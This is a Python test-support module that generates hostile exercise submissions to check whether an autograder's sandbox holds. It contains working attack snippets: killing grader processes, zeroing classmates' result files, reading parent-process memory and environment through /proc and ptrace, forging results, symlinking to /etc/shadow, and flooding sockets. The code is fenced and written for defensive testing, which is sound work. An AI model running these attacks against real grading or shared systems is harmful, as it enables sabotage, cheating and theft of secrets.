"""A class of exercise 8-2 submissions that attack the grader that runs them.

`hostile_class(good, probe)` gives student id -> source of `ex8_2.py`. Three kinds of student:

- honest (`honest1`..`honest3`, and `zz_honest`, graded last): `good` unchanged; they must keep
  10/10 whatever the others do.
- probes: at import, the file runs one attack (plain top-level code, in a try/except so that
  any failure is silent) that sets `ATTACK_WORKED = True` only where the attack really
  succeeded; its `bilinear_asymmetry` answers `W - Wᵀ` but `W - Wᵀ + 1` once `ATTACK_WORKED`
  is set. A probe that keeps 10/10 proves its attack failed; one that loses the
  bilinear_asymmetry point proves it worked. Some probes (killer, zeroer, group_killer) also
  harm the grader or the class when they work.
- harming (`HARMING`): `lingerer` and `swapper` keep correct answers and try to damage the
  others' results; their own score is not evidence of anything (swapper's own outputs are what
  it replaces), the classmates' scores are.

`probe` holds the paths the attacks need, known at test time only:

- `out`: the results folder; `submissions`: the class folder; `kit`: the kit root (it holds
  solutions/ and grader/); `marker`: a path that must not exist afterwards (attacks write
  `marker` and `marker + ".<student>"`, so check every `marker*`);
- `fence` (optional; default: the deepest folder holding out, submissions and marker): a
  folder every attack that writes or walks stays inside, so that this class can run with no
  sandbox at all (as root) without touching anything outside the test's own folder. Files with
  more than one hard link (the hard-linked site-packages of tests/unprivileged.py) are never
  written either.

Processes are killed only inside the batch: a pid whose command line names "grader", never
"pytest", that descends from the batch (the outermost such ancestor) or names the class folder.
The batch must run in a session of its own (`start_new_session=True`), so that the process
group of the grader is not the test runner's.
"""

from __future__ import annotations

import os
import textwrap

from tests.support.grading import replace_function

ASYMMETRY = "bilinear_asymmetry"
# The grader takes students in name order: zz_honest is graded after every attack has run.
HONEST = ("honest1", "honest2", "honest3", "zz_honest")
HARMING = ("lingerer", "swapper", "flooder")

# Shared by every attack: what the probe knows, and a few helpers on /proc and the fence.
PRELUDE = '''\
# ---- attack of {student!r} (tests/hostile_class.py); answers change only if it worked ----
ATTACK_WORKED = False
STUDENT = {student!r}
PROBE = {probe!r}
FENCE = {fence!r}


def _inside_fence(path):
    import os

    path = os.path.realpath(path)
    return path == FENCE or path.startswith(FENCE + os.sep)


def _cmdline(pid):
    with open(f"/proc/{{pid}}/cmdline", "rb") as handle:
        return handle.read().replace(b"\\0", b" ").decode("utf-8", "replace")


def _ppid(pid):
    with open(f"/proc/{{pid}}/status") as handle:
        for line in handle:
            if line.startswith("PPid:"):
                return int(line.split()[1])
    return 0


def _ancestors(pid):
    """Parent, grandparent, ... as far as /proc shows them."""
    found = []
    while len(found) < 64:
        try:
            pid = _ppid(pid)
        except (OSError, ValueError):
            break
        if pid <= 0:
            break
        found.append(pid)
    return found


def _pids():
    import os

    return [int(entry) for entry in os.listdir("/proc") if entry.isdigit()]


def _readable_address(pid):
    with open(f"/proc/{{pid}}/maps") as handle:
        for line in handle:
            fields = line.split()
            if fields[1].startswith("r") and not line.rstrip().endswith("]"):
                return int(fields[0].split("-")[0], 16)
    return None


def _tops(start, levels):
    """The outermost of `start` and its `levels` parents that is inside the fence, or None."""
    import os

    top, folder = None, os.path.realpath(start)
    for _ in range(levels + 1):
        if _inside_fence(folder):
            top = folder
        folder = os.path.dirname(folder)
    return top


def _files_under(top, limit=20000):
    """Paths of the files under `top`, never inside a venv or site-packages; at most `limit`."""
    import os

    count = 0
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("venv", "site-packages") and "-packages" not in d]
        for name in files:
            count += 1
            if count > limit:
                return
            yield os.path.join(folder, name)


def _zero(path):
    """Overwrite `path` with zeros (same length) where allowed: a plain file inside the fence
    with one link, opened without following a link."""
    import os
    import stat

    if not _inside_fence(path):
        raise PermissionError(path)
    descriptor = os.open(path, os.O_WRONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
    try:
        info = os.fstat(descriptor)
        if info.st_nlink != 1 or not stat.S_ISREG(info.st_mode):
            raise PermissionError(path)
        os.write(descriptor, b"\\0" * info.st_size)
    finally:
        os.close(descriptor)


'''

ATTACKS: dict[str, str] = {}

ATTACKS["killer"] = """
import os
import signal

me = os.getpid()
chain = _ancestors(me)
names = {}
for pid in _pids():
    try:
        names[pid] = _cmdline(pid)
    except OSError:
        pass


def _ours(pid):
    name = names.get(pid, "")
    return "grader" in name and "pytest" not in name


batch = None  # the outermost ancestor that is the grader
for pid in chain:
    if _ours(pid):
        batch = pid
targets = []
for pid in names:
    if pid == me or not _ours(pid):
        continue
    try:
        lineage = [pid] + _ancestors(pid)
    except OSError:
        continue
    if (batch is not None and batch in lineage) or PROBE["submissions"] in names[pid]:
        targets.append(pid)
# Everything else first, then the ancestors, the nearest first.
targets.sort(key=lambda pid: (pid in chain, chain.index(pid) if pid in chain else 0))
for pid in targets:
    try:
        os.kill(pid, signal.SIGKILL)
        ATTACK_WORKED = True
    except OSError:
        pass
"""

ATTACKS["group_killer"] = """
import os
import signal

parent = os.getppid()
group = os.getpgid(parent) if parent > 0 else 0


def _group_of(pid):
    with open(f"/proc/{pid}/stat") as handle:
        return int(handle.read().rsplit(")", 1)[1].split()[2])


members = []
for pid in _pids():
    try:
        if _group_of(pid) == group:
            members.append(_cmdline(pid))
    except (OSError, ValueError, IndexError):
        pass
# Only the batch's own group: one with the grader in it and never the test runner.
if (
    group > 1
    and group != os.getpgrp()
    and any("grader" in name for name in members)
    and not any("pytest" in name for name in members)
):
    os.killpg(group, signal.SIGKILL)
    ATTACK_WORKED = True
"""

# Without /proc to look at: kill the parent (the grading helper) and its process group blindly.
# The batch runs in a session of its own, so that group never holds the test runner.
ATTACKS["blind_signaller"] = """
import os
import signal

parent = os.getppid()
try:
    os.kill(parent, signal.SIGKILL)
    ATTACK_WORKED = True
except OSError:
    pass
try:
    group = os.getpgid(parent)
    if group > 1 and group != os.getpgrp():
        os.killpg(group, signal.SIGKILL)
        ATTACK_WORKED = True
except OSError:
    pass
"""

ATTACKS["zeroer"] = """
import os

here = os.path.realpath(os.getcwd())
top = _tops(here, 4)
if top is not None:
    for path in list(_files_under(top)):
        if not path.endswith((".npz", ".json")):
            continue
        if os.path.realpath(path).startswith(here + os.sep):
            continue  # its own folder: nobody else's work
        try:
            _zero(path)
            ATTACK_WORKED = True
        except OSError:
            pass
"""

ATTACKS["proc_reader"] = """
for pid in _ancestors(__import__("os").getpid()):
    for name in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as handle:
                if handle.read(4096):
                    ATTACK_WORKED = True
        except OSError:
            pass
    try:
        address = _readable_address(pid)
        if address is not None:
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as handle:
                handle.seek(address)
                if handle.read(4096):
                    ATTACK_WORKED = True
    except (OSError, ValueError, OverflowError):
        pass
"""

ATTACKS["classmate_reader"] = """
import os

here = os.path.realpath(os.getcwd())
try:
    for name in sorted(os.listdir(PROBE["submissions"])):
        if name == STUDENT:
            continue
        try:
            with open(os.path.join(PROBE["submissions"], name, "ex8_2.py")) as handle:
                if handle.read():
                    ATTACK_WORKED = True
                    break
        except OSError:
            pass
except OSError:
    pass
folder = here
for _ in range(3):
    folder = os.path.dirname(folder)
    for path in _files_under(folder, limit=5000):
        if path.endswith("ex8_2.py") and not os.path.realpath(path).startswith(here + os.sep):
            try:
                with open(path) as handle:
                    if handle.read():
                        ATTACK_WORKED = True
                        break
            except OSError:
                pass
"""

ATTACKS["kit_writer"] = """
import os

here = os.path.realpath(os.getcwd())
kit = PROBE["kit"]
targets = [
    os.path.join(kit, "solutions", "ex8_2.py"),
    os.path.join(kit, "grader", "engine.py"),
]
for folder, _, files in os.walk(os.path.join(kit, "grader", "fixtures")):
    targets += [os.path.join(folder, name) for name in files]
folder = here
for _ in range(3):
    folder = os.path.dirname(folder)
    targets += [
        path
        for path in _files_under(folder, limit=5000)
        if path.endswith(".npz") and not os.path.realpath(path).startswith(here + os.sep)
    ]
for path in targets:
    try:  # opened for writing (appending nothing, creating nothing): the file is unchanged
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        ATTACK_WORKED = True
    except OSError:
        pass
try:
    with open(os.path.join(kit, "solutions", "ex8_2.py")) as handle:
        if handle.read():
            ATTACK_WORKED = True
except OSError:
    pass
"""

ATTACKS["results_writer"] = """
import os

for path in (
    os.path.join(PROBE["out"], "results", "victim.json"),
    PROBE["marker"],
    "/autograder/results/results.json",
):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "x") as handle:  # never overwrites what is already there
            handle.write('{"total": 10.0}')
        ATTACK_WORKED = True
    except OSError:
        pass
"""

ATTACKS["signaller"] = """
import os

me = os.getpid()
for pid in _pids():
    if pid == me:
        continue
    try:
        os.kill(pid, 0)  # delivers nothing: only asks whether it could
        ATTACK_WORKED = True
    except OSError:
        pass
"""

ATTACKS["ptracer"] = """
import ctypes
import os

PTRACE_ATTACH, PTRACE_DETACH, WALL = 16, 17, 0x40000000
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
parent = os.getppid()
if parent > 1:
    if libc.ptrace(PTRACE_ATTACH, parent, None, None) == 0:
        ATTACK_WORKED = True
        try:
            os.waitpid(parent, WALL)
        except OSError:
            pass
        libc.ptrace(PTRACE_DETACH, parent, None, None)

    class _Iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    try:
        address = _readable_address(parent)
    except OSError:
        address = None
    buffer = ctypes.create_string_buffer(4096)
    local = _Iovec(ctypes.cast(buffer, ctypes.c_void_p), 4096)
    remote = _Iovec(address or 0x400000, 4096)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    libc.process_vm_readv.argtypes = [
        ctypes.c_int,
        ctypes.c_void_p,
        ctypes.c_ulong,
        ctypes.c_void_p,
        ctypes.c_ulong,
        ctypes.c_ulong,
    ]
    if libc.process_vm_readv(parent, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        ATTACK_WORKED = True
"""

ATTACKS["forker"] = """
import os
import subprocess

for _ in range(300):
    try:
        pid = os.fork()
    except OSError:
        continue
    if pid == 0:
        os._exit(0)
    ATTACK_WORKED = True
    try:
        os.waitpid(pid, 0)
    except OSError:
        pass
    break  # one is proof enough
try:
    if subprocess.run(["true"], timeout=5).returncode == 0:
        ATTACK_WORKED = True
except (OSError, subprocess.SubprocessError):
    pass
"""

ATTACKS["linker"] = """
import os

here = os.getcwd()
for number, target in enumerate(
    [os.path.join(PROBE["kit"], "solutions", "ex8_2.py"), "/etc/shadow"]
):
    for make in (os.symlink, os.link):
        link = os.path.join(here, f".linker-{make.__name__}-{number}")
        try:
            make(target, link)
        except OSError:
            continue
        try:
            with open(link, "rb") as handle:
                if handle.read(1):
                    ATTACK_WORKED = True
        except OSError:
            pass
        finally:
            try:
                os.unlink(link)
            except OSError:
                pass
"""

ATTACKS["env_reader"] = """
import os

if "ATTNKIT_SECRET_FOR_TESTS" in os.environ:
    ATTACK_WORKED = True
try:
    with open("/proc/self/environ", "rb") as handle:
        if b"ATTNKIT_SECRET_FOR_TESTS=" in handle.read():
            ATTACK_WORKED = True
except OSError:
    pass
"""

ATTACKS["importer"] = """
import importlib

try:
    __import__("sol" + "utions.ex8_2")
    ATTACK_WORKED = True
except BaseException:
    pass
try:
    importlib.import_module("grader.engine")
    ATTACK_WORKED = True
except BaseException:
    pass
"""

# Harming: a thread that, for as long as the child lives (60 s at most), replaces the child's own
# outputs and logs with links and plants links under the names of the parts still to come: logs
# to a classmate's result (which the child's next log would truncate), bundles (and the
# `.partial` files they are written through) to the kit's solution (which the grader would read
# as a bundle, and the child overwrite). Every link points inside the fence: where a grader
# follows them (chown, open), nothing outside the test's folder can be reached.
ATTACKS["swapper"] = """
import os
import re
import threading
import time


def _link(target, path):
    spare = path + ".swap"
    try:
        os.symlink(target, spare)
        os.replace(spare, path)
    except OSError:
        pass


def _swap(here, result, solution):
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            names = os.listdir(here)
        except OSError:
            names = []
        numbers = [int(m.group(1)) for m in map(re.compile(r"job(\\d+)").match, names) if m]
        for name in names:
            path = os.path.join(here, name)
            if name.endswith((".out.npz", ".log")) and not os.path.islink(path):
                _link(result if name.endswith(".log") else solution, path)
        for number in range(max(numbers) + 1, max(numbers) + 6) if numbers else []:
            for name, target in (
                (f"job{number}.log", result),
                (f"job{number}.out.npz.partial", solution),
                (f"job{number}.out.npz", solution),
            ):
                if not os.path.lexists(os.path.join(here, name)):
                    _link(target, os.path.join(here, name))
        time.sleep(0.005)


threading.Thread(
    target=_swap,
    args=(
        os.getcwd(),
        os.path.join(PROBE["out"], "results", "honest1.json"),
        os.path.join(PROBE["kit"], "solutions", "ex8_2.py"),
    ),
    daemon=True,
).start()
"""

# Harming: a thread that keeps zeroing every .npz around its folder (the cases, the others'
# outputs) and tries to leave a file behind, for as long as the child lives (60 s at most).
# Floods every socket it inherited (its channel to the grading helper) from a thread that never
# stops: the helper must keep scheduling everyone else.
ATTACKS["flooder"] = """
import os
import socket
import stat
import threading


def _flood(fd):
    try:
        channel = socket.socket(fileno=os.dup(fd))
        channel.setblocking(True)
        while True:
            channel.send(b"open " + b"x" * 3000)
    except OSError:
        pass


for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            threading.Thread(target=_flood, args=(fd,), daemon=True).start()
    except OSError:
        pass
"""

# Its process was forked from the grading helper: search its own memory for a classmate's name.
ATTACKS["memory_reader"] = """
# A classmate's folder name between slashes, as a path would hold it; the needle is built at run
# time and never stands between slashes itself, so finding it so means the path is there.
needle = "".join(["hon", "est", "2"]).encode()
slash = ord("/")
scanned = 0


def _as_folder(block):
    at = block.find(needle)
    while at != -1:
        after = block[at + len(needle) : at + len(needle) + 1]
        if at > 0 and block[at - 1] == slash and after == b"/":
            return True
        at = block.find(needle, at + 1)
    return False


try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            fields = line.split()
            if not fields[1].startswith("rw") or (len(fields) > 5 and fields[5].startswith("/")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if scanned > 2**30:
                break
            try:
                memory.seek(start)
                block = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            scanned += end - start
            if _as_folder(block):
                ATTACK_WORKED = True
                break
except OSError:
    pass
"""

ATTACKS["lingerer"] = """
import os
import threading
import time


def _linger(here):
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        top = _tops(os.path.dirname(here), 2)
        for path in list(_files_under(top)) if top else []:
            if path.endswith(".npz") and not os.path.realpath(path).startswith(here + os.sep):
                try:
                    _zero(path)
                except OSError:
                    pass
        try:
            with open(PROBE["marker"] + "." + STUDENT, "x") as handle:
                handle.write("still here")
        except OSError:
            pass
        time.sleep(0.05)


threading.Thread(target=_linger, args=(os.path.realpath(os.getcwd()),), daemon=True).start()
"""

ANSWER = """\
    W = ops.convert_to_tensor(W)
    answer = W - ops.transpose(W)
    return answer + 1.0 if ATTACK_WORKED else answer"""


def default_fence(probe: dict) -> str:
    paths = [probe["out"], probe["submissions"], os.path.dirname(str(probe["marker"]))]
    return os.path.commonpath([os.path.realpath(str(p)) for p in paths])


def attack_source(student: str, good: str, probe: dict) -> str:
    """`good` with the attack of `student` run at import and an answer that tells on it."""
    probe = {key: str(value) for key, value in probe.items()}
    fence = os.path.realpath(probe.get("fence") or default_fence(probe))
    if fence == os.sep:
        raise ValueError("the fence of a hostile class cannot be the whole file system")
    prelude = PRELUDE.format(student=student, probe=probe, fence=fence)
    attack = textwrap.indent(textwrap.dedent(ATTACKS[student]).strip("\n"), "    ")
    wrapped = f"try:\n{attack}\nexcept BaseException:\n    pass\n# ---- end of the attack ----\n\n"
    return prelude + wrapped + replace_function(good, ASYMMETRY, ANSWER)


def hostile_class(good: str, probe: dict) -> dict[str, str]:
    """Student id -> source of its ex8_2.py: every attack of ATTACKS, and the honest ones."""
    if f"def {ASYMMETRY}(" not in good:
        raise ValueError(f"`good` must define {ASYMMETRY}")
    submissions = {student: attack_source(student, good, probe) for student in ATTACKS}
    submissions.update({student: good for student in HONEST})
    return submissions


def probes() -> list[str]:
    """The students whose score tells whether their attack worked."""
    return [student for student in ATTACKS if student not in HARMING]
